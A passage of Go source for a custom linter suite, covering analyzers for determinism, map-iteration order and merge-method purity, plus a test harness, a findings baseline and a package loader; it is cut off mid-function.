// seed argument is injected rather than derived from ambient state; the
// sanctioned construction sites annotate themselves instead.
var randPackages = map[string]bool{
	"math/rand":    true,
	"math/rand/v2": true,
}

// Name implements Analyzer.
func (Determinism) Name() string { return "determinism" }

// Doc implements Analyzer.
func (Determinism) Doc() string {
	return "forbid time.Now/Since/Sleep and global math/rand calls in internal code; use webnet.Clock and seeded *rand.Rand"
}

// Applies implements Analyzer: internal production packages only.
func (Determinism) Applies(importPath string) bool {
	return strings.Contains(importPath+"/", "/internal/") ||
		strings.HasPrefix(importPath, "internal/")
}

// Check implements Analyzer.
func (d Determinism) Check(pkg *Package, _ *Facts) []Diagnostic {
	var diags []Diagnostic
	for _, f := range pkg.Files {
		table := importTable(f)
		ast.Inspect(f, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			path, fn, ok := pkgCallee(pkg, table, call)
			if !ok {
				return true
			}
			switch {
			case path == "time" && forbiddenTimeFuncs[fn]:
				diags = append(diags, Diagnostic{
					Analyzer: d.Name(),
					Pos:      pkg.Fset.Position(call.Pos()),
					Message: fmt.Sprintf(
						"time.%s reads the process wall clock; thread a webnet.Clock instead", fn),
				})
			case randPackages[path]:
				diags = append(diags, Diagnostic{
					Analyzer: d.Name(),
					Pos:      pkg.Fset.Position(call.Pos()),
					Message: fmt.Sprintf(
						"global rand.%s is not seed-injected; draw from an explicitly seeded *rand.Rand", fn),
				})
			}
			return true
		})
	}
	return diags
}
