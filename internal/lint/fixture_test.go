package lint

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
)

// loadFixture typechecks one fixture package under testdata/src. Fixtures
// must be valid Go: a type error would silently blind the analyzers, so it
// fails the test instead.
func loadFixture(t *testing.T, dir string) *Package {
	t.Helper()
	loader := NewLoader(filepath.Join("..", ".."))
	pkg, err := loader.Load(filepath.Join("testdata", "src", filepath.FromSlash(dir)))
	if err != nil {
		t.Fatalf("loading fixture %s: %v", dir, err)
	}
	for _, e := range pkg.TypeErrors {
		t.Errorf("fixture %s has type error: %v", dir, e)
	}
	if t.Failed() {
		t.FailNow()
	}
	return pkg
}

// expectation is one `// want "substring" ...` comment: every quoted
// substring must be matched by a distinct diagnostic on that line.
type expectation struct {
	line    int
	substr  string
	matched bool
}

// parseWants collects the expectations from a fixture's comments.
func parseWants(pkg *Package) []*expectation {
	var wants []*expectation
	for _, f := range pkg.Files {
		for _, cg := range f.Comments {
			for _, c := range cg.List {
				text := strings.TrimSpace(strings.TrimPrefix(c.Text, "//"))
				rest, ok := strings.CutPrefix(text, "want ")
				if !ok {
					continue
				}
				line := pkg.Fset.Position(c.Pos()).Line
				// Quoted substrings are the odd-indexed segments.
				parts := strings.Split(rest, `"`)
				for i := 1; i < len(parts); i += 2 {
					wants = append(wants, &expectation{line: line, substr: parts[i]})
				}
			}
		}
	}
	return wants
}

// checkFixture runs one analyzer over a fixture and verifies the findings
// line up with the want comments, and that exactly wantSuppressed findings
// were silenced by ignore directives. The analyzer gets a live facts engine
// so cross-package fixtures exercise real interprocedural propagation.
func checkFixture(t *testing.T, a Analyzer, dir string, wantSuppressed int) {
	t.Helper()
	pkg := loadFixture(t, dir)
	if !a.Applies(pkg.ImportPath) {
		t.Fatalf("%s does not apply to fixture import path %q", a.Name(), pkg.ImportPath)
	}
	facts := NewFacts(NewLoader(filepath.Join("..", "..")))
	res := RunPackage(pkg, []Analyzer{a}, facts)
	wants := parseWants(pkg)
	if len(wants) < 2 {
		t.Fatalf("fixture %s demonstrates %d positives; want at least 2", dir, len(wants))
	}
outer:
	for _, d := range res.Diagnostics {
		for _, w := range wants {
			if !w.matched && w.line == d.Line && strings.Contains(d.Message, w.substr) {
				w.matched = true
				continue outer
			}
		}
		t.Errorf("unexpected diagnostic: %s", d)
	}
	for _, w := range wants {
		if !w.matched {
			t.Errorf("missing diagnostic at line %d matching %q", w.line, w.substr)
		}
	}
	if res.Suppressed != wantSuppressed {
		t.Errorf("suppressed = %d, want %d", res.Suppressed, wantSuppressed)
	}
}

func TestDeterminismFixture(t *testing.T) {
	// Two suppressed: rand.New and rand.NewSource share the annotated line.
	checkFixture(t, Determinism{}, "determfix", 2)
}

func TestMapRangeFixture(t *testing.T) {
	checkFixture(t, MapRange{}, "internal/report", 1)
}

func TestCtxFlowFixture(t *testing.T) {
	checkFixture(t, CtxFlow{}, "ctxfix", 1)
}

func TestGuardedFixture(t *testing.T) {
	checkFixture(t, Guarded{}, "guardfix", 1)
}

func TestResilienceFixture(t *testing.T) {
	checkFixture(t, Resilience{}, "resiliencefix", 1)
}

func TestStreamSafeFixture(t *testing.T) {
	checkFixture(t, StreamSafe{}, "streamfix", 1)
}

func TestTaintFlowFixture(t *testing.T) {
	checkFixture(t, TaintFlow{}, "taintfix", 1)
}

func TestShardPureFixture(t *testing.T) {
	checkFixture(t, ShardPure{}, "shardfix", 1)
}

func TestHotAllocFixture(t *testing.T) {
	checkFixture(t, HotAlloc{}, "hotfix", 1)
}

// TestSuppressionDirective pins the directive semantics: a named directive
// and the "all" wildcard silence the finding on the next line, and a
// directive without a reason both fails to suppress and is itself reported.
func TestSuppressionDirective(t *testing.T) {
	pkg := loadFixture(t, "suppressfix")
	res := RunPackage(pkg, Registry(), nil)
	if res.Suppressed != 2 {
		t.Errorf("suppressed = %d, want 2 (named + wildcard)", res.Suppressed)
	}
	var got []string
	for _, d := range res.Diagnostics {
		got = append(got, fmt.Sprintf("%s:%d", d.Analyzer, d.Line))
	}
	if len(res.Diagnostics) != 2 {
		t.Fatalf("diagnostics = %v, want the malformed directive plus the unsuppressed finding", got)
	}
	malformed, finding := res.Diagnostics[0], res.Diagnostics[1]
	if malformed.Analyzer != "cblint" || !strings.Contains(malformed.Message, "malformed") {
		t.Errorf("first diagnostic = %s, want a malformed-directive report", malformed)
	}
	if finding.Analyzer != "determinism" || finding.Line != malformed.Line+1 {
		t.Errorf("second diagnostic = %s, want the undimmed time.Now finding below the bad directive", finding)
	}
}

// TestRegistryOrder pins the canonical analyzer order -list prints and the
// docs reference.
func TestRegistryOrder(t *testing.T) {
	var names []string
	for _, a := range Registry() {
		names = append(names, a.Name())
	}
	want := []string{"determinism", "maprange", "ctxflow", "guarded", "resilience", "streamsafe",
		"taintflow", "shardpure", "hotalloc"}
	if fmt.Sprint(names) != fmt.Sprint(want) {
		t.Errorf("Registry() order = %v, want %v", names, want)
	}
}
