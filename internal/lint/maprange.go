package lint

import (
	"fmt"
	"go/ast"
	"go/types"
	"strings"
)

// MapRange flags `for range` over map-typed values in the packages whose
// results feed rendered output (the report/stats aggregation spine and the
// enrichment sources it joins). Go randomizes map iteration order, so any
// output derived from an unsorted walk differs run to run — exactly the
// nondeterminism the corpus runner's equivalence tests exist to rule out.
//
// The one sanctioned shape is collect-then-sort: a loop body consisting
// solely of appends into local slices, every one of which is passed to a
// sort.* call later in the same function. Everything else needs either a
// rewrite or an explicit "//cblint:ignore maprange <reason>".
type MapRange struct{}

// mapRangeScope lists the package-path suffixes under enforcement: the
// aggregate builders (report, stats), the domain census (urlx), and the
// enrichment ledgers whose query results land in tables (webnet, whois).
var mapRangeScope = []string{
	"internal/obs",
	"internal/report",
	"internal/stats",
	"internal/tracestore",
	"internal/urlx",
	"internal/webnet",
	"internal/whois",
}

// Name implements Analyzer.
func (MapRange) Name() string { return "maprange" }

// Doc implements Analyzer.
func (MapRange) Doc() string {
	return "flag range-over-map in aggregation/rendering packages unless keys are collected and sorted first"
}

// Applies implements Analyzer.
func (MapRange) Applies(importPath string) bool {
	for _, s := range mapRangeScope {
		if importPath == s || strings.HasSuffix(importPath, "/"+s) {
			return true
		}
	}
	return false
}

// Check implements Analyzer.
func (m MapRange) Check(pkg *Package, _ *Facts) []Diagnostic {
	var diags []Diagnostic
	for _, f := range pkg.Files {
		// Collect every function body so each range statement can be
		// matched to its innermost enclosing function — the span the
		// collect-then-sort exemption searches for the later sort call.
		var bodies []*ast.BlockStmt
		ast.Inspect(f, func(n ast.Node) bool {
			switch fn := n.(type) {
			case *ast.FuncDecl:
				if fn.Body != nil {
					bodies = append(bodies, fn.Body)
				}
			case *ast.FuncLit:
				bodies = append(bodies, fn.Body)
			}
			return true
		})
		ast.Inspect(f, func(n ast.Node) bool {
			rs, ok := n.(*ast.RangeStmt)
			if !ok {
				return true
			}
			if !m.isMapType(pkg, rs.X) {
				return true
			}
			if body := innermostBody(bodies, rs); body != nil && collectThenSort(rs, body) {
				return true
			}
			diags = append(diags, Diagnostic{
				Analyzer: m.Name(),
				Pos:      pkg.Fset.Position(rs.Pos()),
				Message: fmt.Sprintf(
					"range over map %s iterates in random order; collect and sort keys first",
					exprString(rs.X)),
			})
			return true
		})
	}
	return diags
}

// isMapType reports whether expr has map type, from type info when present.
func (MapRange) isMapType(pkg *Package, expr ast.Expr) bool {
	if pkg.Info == nil {
		return false
	}
	tv, ok := pkg.Info.Types[expr]
	if !ok || tv.Type == nil {
		return false
	}
	_, isMap := tv.Type.Underlying().(*types.Map)
	return isMap
}

// innermostBody returns the smallest function body containing the range
// statement.
func innermostBody(bodies []*ast.BlockStmt, rs *ast.RangeStmt) *ast.BlockStmt {
	var best *ast.BlockStmt
	for _, b := range bodies {
		if b.Pos() <= rs.Pos() && rs.End() <= b.End() {
			if best == nil || (best.Pos() <= b.Pos() && b.End() <= best.End()) {
				best = b
			}
		}
	}
	return best
}

// collectThenSort recognizes the sanctioned idiom: the range body only
// appends map keys/values into local slices, and each of those slices is
// later (lexically after the loop, same function) handed to a sort.* call.
func collectThenSort(rs *ast.RangeStmt, body *ast.BlockStmt) bool {
	targets := appendOnlyTargets(rs.Body)
	if len(targets) == 0 {
		return false
	}
	for name := range targets {
		if !sortedAfter(body, rs, name) {
			return false
		}
	}
	return true
}

// appendOnlyTargets returns the identifiers appended to when the loop body
// consists exclusively of `x = append(x, ...)` statements (plus if-guards,
// continue, and nothing else). A nil/empty result means the body does other
// work and the exemption cannot apply.
func appendOnlyTargets(body *ast.BlockStmt) map[string]bool {
	targets := map[string]bool{}
	if !gatherAppends(body.List, targets) {
		return nil
	}
	return targets
}

func gatherAppends(stmts []ast.Stmt, targets map[string]bool) bool {
	for _, st := range stmts {
		switch s := st.(type) {
		case *ast.AssignStmt:
			name, ok := appendTarget(s)
			if !ok {
				return false
			}
			targets[name] = true
		case *ast.IfStmt:
			// Guards like `if seen[k] { continue }` are allowed as long as
			// every branch is itself append-only or flow control.
			if !gatherAppends(s.Body.List, targets) {
				return false
			}
			if s.Else != nil {
				if blk, ok := s.Else.(*ast.BlockStmt); !ok || !gatherAppends(blk.List, targets) {
					return false
				}
			}
		case *ast.BranchStmt:
			// continue / break
		default:
			return false
		}
	}
	return true
}

// appendTarget matches `x = append(x, ...)` and returns x's name.
func appendTarget(s *ast.AssignStmt) (string, bool) {
	if len(s.Lhs) != 1 || len(s.Rhs) != 1 {
		return "", false
	}
	lhs, ok := s.Lhs[0].(*ast.Ident)
	if !ok {
		return "", false
	}
	call, ok := s.Rhs[0].(*ast.CallExpr)
	if !ok {
		return "", false
	}
	fn, ok := call.Fun.(*ast.Ident)
	if !ok || fn.Name != "append" || len(call.Args) == 0 {
		return "", false
	}
	first, ok := call.Args[0].(*ast.Ident)
	if !ok || first.Name != lhs.Name {
		return "", false
	}
	return lhs.Name, true
}

// sortedAfter reports whether a sort.* call lexically after the range loop
// mentions the identifier name in its arguments.
func sortedAfter(body *ast.BlockStmt, rs *ast.RangeStmt, name string) bool {
	found := false
	ast.Inspect(body, func(n ast.Node) bool {
		if found {
			return false
		}
		call, ok := n.(*ast.CallExpr)
		if !ok || call.Pos() <= rs.End() {
			return true
		}
		sel, ok := call.Fun.(*ast.SelectorExpr)
		if !ok {
			return true
		}
		if pkgIdent, ok := sel.X.(*ast.Ident); !ok || pkgIdent.Name != "sort" {
			return true
		}
		for _, arg := range call.Args {
			if mentionsIdent(arg, name) {
				found = true
				return false
			}
		}
		return true
	})
	return found
}

// mentionsIdent reports whether the expression tree references name.
func mentionsIdent(expr ast.Expr, name string) bool {
	found := false
	ast.Inspect(expr, func(n ast.Node) bool {
		if id, ok := n.(*ast.Ident); ok && id.Name == name {
			found = true
			return false
		}
		return !found
	})
	return found
}

// exprString renders a short source form of simple expressions for messages.
func exprString(expr ast.Expr) string {
	switch e := expr.(type) {
	case *ast.Ident:
		return e.Name
	case *ast.SelectorExpr:
		return exprString(e.X) + "." + e.Sel.Name
	case *ast.IndexExpr:
		return exprString(e.X) + "[" + exprString(e.Index) + "]"
	case *ast.CallExpr:
		return exprString(e.Fun) + "(...)"
	default:
		return "value"
	}
}
