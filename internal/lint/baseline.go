package lint

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
)

// This file implements the accepted-debt baseline: a committed snapshot of
// known findings that `make lint` tolerates, so the gate fails only on NEW
// findings while the old ones are burned down incrementally. Entries match
// on (analyzer, file, message) with a count — deliberately line-agnostic,
// because unrelated edits move line numbers and a baseline that churns on
// every edit trains people to regenerate it blindly.

// BaselineEntry is one accepted finding class.
type BaselineEntry struct {
	Analyzer string `json:"analyzer"`
	File     string `json:"file"`
	Message  string `json:"message"`
	// Count is how many identical findings the baseline accepts in File.
	Count int `json:"count"`
	// FileHash records File's content hash at baseline time — informational
	// (it shows whether the file changed since acceptance), never a match
	// key.
	FileHash string `json:"file_hash,omitempty"`
}

// Baseline is a loaded baseline file.
type Baseline struct {
	// Version is the analyzer-suite version that wrote the baseline. A
	// mismatch with the running suite does not invalidate matching, but the
	// driver surfaces it so stale baselines get regenerated.
	Version string          `json:"cblint_version"`
	Entries []BaselineEntry `json:"findings"`
}

// baselineKey is the matching identity.
type baselineKey struct {
	analyzer, file, message string
}

// LoadBaseline reads a baseline written by WriteBaseline.
func LoadBaseline(path string) (*Baseline, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var b Baseline
	if err := json.Unmarshal(data, &b); err != nil {
		return nil, fmt.Errorf("lint: parsing baseline %s: %w", path, err)
	}
	return &b, nil
}

// NewBaseline folds findings into baseline entries (sorted, counted).
// Diagnostics must already carry relative File paths and FileHash.
func NewBaseline(diags []Diagnostic) *Baseline {
	counts := map[baselineKey]int{}
	hashes := map[baselineKey]string{}
	for _, d := range diags {
		k := baselineKey{d.Analyzer, d.File, d.Message}
		counts[k]++
		hashes[k] = d.FileHash
	}
	b := &Baseline{Version: Version, Entries: []BaselineEntry{}}
	keys := make([]baselineKey, 0, len(counts))
	//cblint:ignore maprange keys collected then sorted
	for k := range counts {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool {
		a, c := keys[i], keys[j]
		if a.file != c.file {
			return a.file < c.file
		}
		if a.analyzer != c.analyzer {
			return a.analyzer < c.analyzer
		}
		return a.message < c.message
	})
	for _, k := range keys {
		b.Entries = append(b.Entries, BaselineEntry{
			Analyzer: k.analyzer,
			File:     k.file,
			Message:  k.message,
			Count:    counts[k],
			FileHash: hashes[k],
		})
	}
	return b
}

// Write serializes the baseline to path.
func (b *Baseline) Write(path string) error {
	data, err := json.MarshalIndent(b, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(data, '\n'), 0o644)
}

// Filter splits findings into new (not covered by the baseline) and
// accepted. Each baseline entry absorbs up to Count matching findings;
// extras past the accepted count are new.
func (b *Baseline) Filter(diags []Diagnostic) (fresh, accepted []Diagnostic) {
	remaining := map[baselineKey]int{}
	for _, e := range b.Entries {
		remaining[baselineKey{e.Analyzer, e.File, e.Message}] += e.Count
	}
	for _, d := range diags {
		k := baselineKey{d.Analyzer, d.File, d.Message}
		if remaining[k] > 0 {
			remaining[k]--
			accepted = append(accepted, d)
			continue
		}
		fresh = append(fresh, d)
	}
	return fresh, accepted
}
