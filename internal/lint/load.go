package lint

import (
	"fmt"
	"go/ast"
	"go/build"
	"go/parser"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"runtime"
	"strings"
)

// Package is one loaded, parsed, and typechecked Go package — the unit every
// analyzer operates on. Test files are never loaded: the invariants cblint
// enforces are production-code invariants, and excluding _test.go keeps the
// loader free of external-test-package complications.
type Package struct {
	// Fset positions every node in Files.
	Fset *token.FileSet
	// Dir is the package's source directory.
	Dir string
	// ImportPath is the module-qualified import path ("crawlerbox/internal/webnet")
	// when the directory is inside the module, the bare directory base name
	// otherwise (fixture packages under testdata).
	ImportPath string
	// Files are the non-test source files, parsed with comments.
	Files []*ast.File
	// Types is the typechecked package object. It may be partial: type
	// errors are tolerated so analyzers degrade gracefully instead of
	// blocking the whole gate on an unrelated compile error.
	Types *types.Package
	// Info carries the expression types, uses, and definitions analyzers
	// query. Entries exist only where typechecking succeeded.
	Info *types.Info
	// TypeErrors collects everything the typechecker complained about.
	TypeErrors []error
}

// Loader parses and typechecks packages from source using nothing but the
// standard library: go/build for build-tag-aware file selection, go/parser,
// and go/types with a recursive source importer. It resolves imports the way
// the go command would — module-local paths map into the module directory,
// everything else maps into GOROOT/src (with the GOROOT vendor directory as
// fallback for the standard library's vendored dependencies) — without
// shelling out to the go tool or depending on go/packages.
type Loader struct {
	fset *token.FileSet
	bctx build.Context
	// modPath / modDir describe the enclosing module ("" when loading a
	// fixture tree with no go.mod, in which case only stdlib imports resolve).
	modPath string
	modDir  string
	// deps caches typechecked dependency packages by import path. A nil
	// entry marks an import in progress, which only a (illegal) cycle hits.
	deps map[string]*types.Package
}

// NewLoader returns a loader rooted at modDir. When modDir/go.mod exists its
// module path seeds intra-module import resolution.
func NewLoader(modDir string) *Loader {
	l := &Loader{
		fset: token.NewFileSet(),
		bctx: build.Default,
		deps: map[string]*types.Package{},
	}
	// Pure-Go file selection: the analyzers reason about Go source, and
	// disabling cgo makes GOROOT packages resolve to their portable variants.
	l.bctx.CgoEnabled = false
	if abs, err := filepath.Abs(modDir); err == nil {
		modDir = abs
	}
	if data, err := os.ReadFile(filepath.Join(modDir, "go.mod")); err == nil {
		if path := modulePath(data); path != "" {
			l.modPath = path
			l.modDir = modDir
		}
	}
	return l
}

// Fset returns the loader's shared file set.
func (l *Loader) Fset() *token.FileSet { return l.fset }

// modulePath extracts the module path from go.mod contents.
func modulePath(gomod []byte) string {
	for _, line := range strings.Split(string(gomod), "\n") {
		line = strings.TrimSpace(line)
		if rest, ok := strings.CutPrefix(line, "module "); ok {
			return strings.Trim(strings.TrimSpace(rest), `"`)
		}
	}
	return ""
}

// importPathFor maps a directory to its module-qualified import path, or the
// directory base name outside the module.
func (l *Loader) importPathFor(dir string) string {
	if abs, err := filepath.Abs(dir); err == nil {
		dir = abs
	}
	if l.modDir != "" {
		if rel, err := filepath.Rel(l.modDir, dir); err == nil && rel != ".." && !strings.HasPrefix(rel, ".."+string(filepath.Separator)) {
			if rel == "." {
				return l.modPath
			}
			return l.modPath + "/" + filepath.ToSlash(rel)
		}
	}
	return filepath.Base(dir)
}

// dirFor resolves an import path to a source directory: module-local paths
// into the module tree, everything else into GOROOT/src, then the GOROOT
// vendor tree (net's golang.org/x/net/dns/dnsmessage and friends).
func (l *Loader) dirFor(path string) (string, bool) {
	if l.modPath != "" {
		if path == l.modPath {
			return l.modDir, true
		}
		if rest, ok := strings.CutPrefix(path, l.modPath+"/"); ok {
			return filepath.Join(l.modDir, filepath.FromSlash(rest)), true
		}
	}
	goroot := runtime.GOROOT()
	for _, dir := range []string{
		filepath.Join(goroot, "src", filepath.FromSlash(path)),
		filepath.Join(goroot, "src", "vendor", filepath.FromSlash(path)),
	} {
		if st, err := os.Stat(dir); err == nil && st.IsDir() {
			return dir, true
		}
	}
	return "", false
}

// localDir resolves an import path to a source directory only when the path
// is module-local — the facts engine computes summaries for packages in this
// repository, never for GOROOT.
func (l *Loader) localDir(path string) (string, bool) {
	if l.modPath == "" {
		return "", false
	}
	if path == l.modPath {
		return l.modDir, true
	}
	if rest, ok := strings.CutPrefix(path, l.modPath+"/"); ok {
		dir := filepath.Join(l.modDir, filepath.FromSlash(rest))
		if st, err := os.Stat(dir); err == nil && st.IsDir() {
			return dir, true
		}
	}
	return "", false
}

// Import implements types.Importer.
func (l *Loader) Import(path string) (*types.Package, error) {
	if path == "unsafe" {
		return types.Unsafe, nil
	}
	if pkg, ok := l.deps[path]; ok {
		if pkg == nil {
			return nil, fmt.Errorf("lint: import cycle through %q", path)
		}
		return pkg, nil
	}
	dir, ok := l.dirFor(path)
	if !ok {
		return nil, fmt.Errorf("lint: cannot resolve import %q", path)
	}
	l.deps[path] = nil // cycle guard
	pkg, err := l.loadDep(dir, path)
	l.deps[path] = pkg
	if err != nil {
		return nil, err
	}
	return pkg, nil
}

// loadDep parses and typechecks a dependency package. Dependencies are
// loaded without comments or per-expression info — only their exported type
// surface matters to the target package's analysis.
func (l *Loader) loadDep(dir, path string) (*types.Package, error) {
	bp, err := l.bctx.ImportDir(dir, 0)
	if err != nil {
		return nil, err
	}
	var files []*ast.File
	for _, name := range bp.GoFiles {
		f, err := parser.ParseFile(l.fset, filepath.Join(dir, name), nil, parser.SkipObjectResolution)
		if err != nil {
			return nil, err
		}
		files = append(files, f)
	}
	conf := types.Config{
		Importer:    l,
		FakeImportC: true,
		Error:       func(error) {}, // tolerate partial dependencies
	}
	pkg, _ := conf.Check(path, l.fset, files, nil)
	if pkg == nil {
		return nil, fmt.Errorf("lint: typechecking %q produced no package", path)
	}
	pkg.MarkComplete()
	return pkg, nil
}

// Load parses and typechecks the package in dir as an analysis target:
// comments retained (suppression directives, guarded-by annotations) and
// full types.Info recorded. Type errors are collected, not fatal.
func (l *Loader) Load(dir string) (*Package, error) {
	if abs, err := filepath.Abs(dir); err == nil {
		dir = abs
	}
	bp, err := l.bctx.ImportDir(dir, 0)
	if err != nil {
		if _, nogo := err.(*build.NoGoError); nogo {
			return nil, err
		}
		return nil, fmt.Errorf("lint: reading %s: %w", dir, err)
	}
	pkg := &Package{
		Fset:       l.fset,
		Dir:        dir,
		ImportPath: l.importPathFor(dir),
	}
	for _, name := range bp.GoFiles {
		f, err := parser.ParseFile(l.fset, filepath.Join(dir, name), nil, parser.ParseComments|parser.SkipObjectResolution)
		if err != nil {
			return nil, fmt.Errorf("lint: parsing %s: %w", name, err)
		}
		pkg.Files = append(pkg.Files, f)
	}
	pkg.Info = &types.Info{
		Types:      map[ast.Expr]types.TypeAndValue{},
		Uses:       map[*ast.Ident]types.Object{},
		Defs:       map[*ast.Ident]types.Object{},
		Selections: map[*ast.SelectorExpr]*types.Selection{},
	}
	conf := types.Config{
		Importer:    l,
		FakeImportC: true,
		Error:       func(err error) { pkg.TypeErrors = append(pkg.TypeErrors, err) },
	}
	pkg.Types, _ = conf.Check(pkg.ImportPath, l.fset, pkg.Files, pkg.Info)
	return pkg, nil
}
