package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// ShardPure verifies the contracts that make per-worker census shards and
// metric registries safe to fold in any order (DESIGN.md §11, §13):
//
//  1. A method named Merge on a named type must only write state reachable
//     from its receiver — no assignments to package-level variables, no
//     writes through non-receiver roots. Merging shard B into shard A must
//     touch A and read B, nothing else.
//  2. Inside a Merge method, every tie between merge candidates must be
//     pinned by a comparator: a plain `m[k] = v` overwrite of a map entry
//     is order-dependent (last writer wins, and worker completion order is
//     scheduling), so map-entry writes must be dominated by a comparison
//     involving existing state, or commutatively accumulated (+=, |=,
//     append, or arithmetic on the existing entry).
//  3. A goroutine launched in a package that defines a Merge method (the
//     worker pools that produce shards) must not reference package-level
//     mutable variables — workers communicate through channels and their
//     own shard, never through globals.
type ShardPure struct{}

// Name implements Analyzer.
func (ShardPure) Name() string { return "shardpure" }

// Doc implements Analyzer.
func (ShardPure) Doc() string {
	return "Merge methods write only receiver-reachable state with order ties pinned by comparators; worker goroutines touch no package-level mutable vars"
}

// Applies implements Analyzer: internal production code, where the shards
// live.
func (ShardPure) Applies(importPath string) bool {
	return strings.Contains(importPath+"/", "/internal/") ||
		strings.HasPrefix(importPath, "internal/")
}

// Check implements Analyzer.
func (ShardPure) Check(pkg *Package, _ *Facts) []Diagnostic {
	if pkg.Info == nil {
		return nil
	}
	var diags []Diagnostic
	hasMerge := false
	for _, f := range pkg.Files {
		for _, decl := range f.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil {
				continue
			}
			if fd.Recv != nil && fd.Name.Name == "Merge" {
				hasMerge = true
				diags = append(diags, checkMergeMethod(pkg, fd)...)
			}
		}
	}
	if !hasMerge {
		return diags
	}
	// Rule 3 only bites in packages that actually produce shards.
	for _, f := range pkg.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			g, ok := n.(*ast.GoStmt)
			if !ok {
				return true
			}
			if fl, ok := g.Call.Fun.(*ast.FuncLit); ok {
				diags = append(diags, checkWorkerGlobals(pkg, fl)...)
			}
			return true
		})
	}
	return diags
}

// checkMergeMethod enforces rules 1 and 2 on one Merge body.
func checkMergeMethod(pkg *Package, fd *ast.FuncDecl) []Diagnostic {
	var diags []Diagnostic
	recv := receiverObjs(pkg, fd)
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		switch node := n.(type) {
		case *ast.AssignStmt:
			for _, lhs := range node.Lhs {
				diags = append(diags, checkMergeWrite(pkg, fd, lhs, recv, node)...)
			}
		case *ast.IncDecStmt:
			diags = append(diags, checkMergeWrite(pkg, fd, node.X, recv, nil)...)
		}
		return true
	})
	return diags
}

// checkMergeWrite classifies one write inside Merge.
func checkMergeWrite(pkg *Package, fd *ast.FuncDecl, lhs ast.Expr,
	recv map[types.Object]bool, as *ast.AssignStmt) []Diagnostic {
	if id, ok := lhs.(*ast.Ident); ok && id.Name == "_" {
		return nil
	}
	root := writeRoot(pkg, lhs)
	if root == nil {
		return nil
	}
	// Rule 1: package-level variable writes are out.
	if isPackageLevelVar(pkg, root) {
		return []Diagnostic{{
			Analyzer: "shardpure",
			Pos:      pkg.Fset.Position(lhs.Pos()),
			Message: fmt.Sprintf("Merge writes package-level variable %s; merges must only touch receiver-reachable state",
				root.Name()),
		}}
	}
	if !recv[root] && !localDef(pkg, root, fd) {
		return []Diagnostic{{
			Analyzer: "shardpure",
			Pos:      pkg.Fset.Position(lhs.Pos()),
			Message: fmt.Sprintf("Merge writes %s, which is not reachable from the receiver",
				root.Name()),
		}}
	}
	// Rule 2: a plain overwrite of a receiver map entry must be pinned.
	if idx, ok := lhs.(*ast.IndexExpr); ok && recv[root] {
		if isMapExpr(pkg, idx.X) && as != nil && as.Tok == token.ASSIGN {
			if !commutativeRHS(pkg, as, idx) && !pinnedByComparator(pkg, fd, idx, as.Pos()) {
				return []Diagnostic{{
					Analyzer: "shardpure",
					Pos:      pkg.Fset.Position(lhs.Pos()),
					Message: fmt.Sprintf("order-dependent overwrite of %s in Merge: pin the winner with a comparator on existing state (last-writer-wins depends on worker scheduling)",
						exprString(lhs)),
				}}
			}
		}
	}
	return nil
}

// receiverObjs returns the receiver's object(s).
func receiverObjs(pkg *Package, fd *ast.FuncDecl) map[types.Object]bool {
	out := map[types.Object]bool{}
	if fd.Recv == nil {
		return out
	}
	for _, field := range fd.Recv.List {
		for _, name := range field.Names {
			if obj := pkg.Info.Defs[name]; obj != nil {
				out[obj] = true
			}
		}
	}
	return out
}

// writeRoot resolves the base object of an assignable expression.
func writeRoot(pkg *Package, expr ast.Expr) types.Object {
	for {
		switch e := expr.(type) {
		case *ast.Ident:
			if obj := pkg.Info.Uses[e]; obj != nil {
				return obj
			}
			return pkg.Info.Defs[e]
		case *ast.SelectorExpr:
			// A package-qualified selector roots at the selected object.
			if id, ok := e.X.(*ast.Ident); ok {
				if _, isPkg := pkg.Info.Uses[id].(*types.PkgName); isPkg {
					return pkg.Info.Uses[e.Sel]
				}
			}
			expr = e.X
		case *ast.IndexExpr:
			expr = e.X
		case *ast.StarExpr:
			expr = e.X
		case *ast.ParenExpr:
			expr = e.X
		default:
			return nil
		}
	}
}

// isPackageLevelVar reports whether the object is a mutable package-level
// variable of this package.
func isPackageLevelVar(pkg *Package, obj types.Object) bool {
	v, ok := obj.(*types.Var)
	if !ok || v.IsField() {
		return false
	}
	if pkg.Types == nil || v.Pkg() != pkg.Types {
		return false
	}
	return v.Parent() == pkg.Types.Scope()
}

// localDef reports whether the object is declared inside the function body
// (parameters included) — writes to locals are always fine; the receiver
// check already covered escape through receiver fields.
func localDef(pkg *Package, obj types.Object, fd *ast.FuncDecl) bool {
	v, ok := obj.(*types.Var)
	if !ok || v.IsField() {
		return false
	}
	return v.Pos() >= fd.Pos() && v.Pos() <= fd.End()
}

// isMapExpr reports whether the expression has map type.
func isMapExpr(pkg *Package, expr ast.Expr) bool {
	tv, ok := pkg.Info.Types[expr]
	if !ok || tv.Type == nil {
		return false
	}
	_, isMap := tv.Type.Underlying().(*types.Map)
	return isMap
}

// commutativeRHS reports whether the assignment's right side makes the
// write order-independent: a constant (set-union `m[k] = true` lands on the
// same value whichever shard writes last) or an expression accumulating the
// existing entry — m[k] = m[k] + v, append(m[k], …) — which is commutative
// up to the pinning of the combiner itself.
func commutativeRHS(pkg *Package, as *ast.AssignStmt, idx *ast.IndexExpr) bool {
	if len(as.Rhs) != 1 {
		return false
	}
	if tv, ok := pkg.Info.Types[as.Rhs[0]]; ok && tv.Value != nil {
		return true
	}
	target := exprString(idx)
	mentions := false
	ast.Inspect(as.Rhs[0], func(n ast.Node) bool {
		if e, ok := n.(ast.Expr); ok && exprString(e) == target {
			mentions = true
			return false
		}
		return true
	})
	return mentions
}

// pinnedByComparator reports whether a comparison involving the written map
// entry (or the map itself) appears lexically before the write in the same
// method — the `if old.count > new.count { return }` pinning idiom, or the
// `existing, ok := m[k]; if ok && …` form.
func pinnedByComparator(pkg *Package, fd *ast.FuncDecl, idx *ast.IndexExpr, pos token.Pos) bool {
	mapName := exprString(idx.X)
	found := false
